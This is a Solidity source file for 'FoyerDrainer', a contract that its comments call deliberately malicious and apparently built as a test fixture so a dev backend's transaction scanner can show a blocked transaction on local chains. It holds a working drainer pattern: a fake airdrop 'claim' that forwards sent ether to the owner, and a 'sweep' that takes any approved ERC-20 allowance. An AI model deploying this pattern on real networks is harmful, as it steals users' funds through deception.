// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @notice The part of ERC-20 the drainer uses.
interface IERC20Like {
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// @title FoyerDrainer
/// @notice A deliberately malicious contract for Foyer's local dev chains: it takes what it is
///         given or allowed and sends it to its owner. The dev backend's transaction scan lists its
///         address as malicious, so demos and tests can show a blocked transaction offline.
/// @dev Deployed at start by the dev chain's treasury (its owner). It holds nothing of value.
contract FoyerDrainer {
    /// @notice Where everything goes: the deployer (the dev chain's treasury).
    address public immutable owner;

    /// @notice Emitted when `from` sent `value` wei through `claim`.
    event Claimed(address indexed from, uint256 value);

    /// @notice Emitted when `value` base units of `token` were taken from `victim`.
    event Swept(address indexed token, address indexed victim, uint256 value);

    constructor() {
        owner = msg.sender;
    }

    /// @notice Looks like an airdrop claim; forwards every wei sent to the owner.
    function claim() external payable {
        (bool sent, ) = owner.call{value: msg.value}("");
        require(sent, "FoyerDrainer: forward failed");
        emit Claimed(msg.sender, msg.value);
    }

    /// @notice Moves as much of `victim`'s `token` balance as the victim allowed this contract to
    ///         spend, to the owner. Anyone may call it: an approval to this contract is a loss.
    function sweep(address token, address victim) external returns (uint256 value) {
        IERC20Like erc20 = IERC20Like(token);
        uint256 allowed = erc20.allowance(victim, address(this));
        uint256 balance = erc20.balanceOf(victim);
        value = allowed < balance ? allowed : balance;
        require(value > 0, "FoyerDrainer: nothing to sweep");
        require(erc20.transferFrom(victim, owner, value), "FoyerDrainer: transfer failed");
        emit Swept(token, victim, value);
    }
}
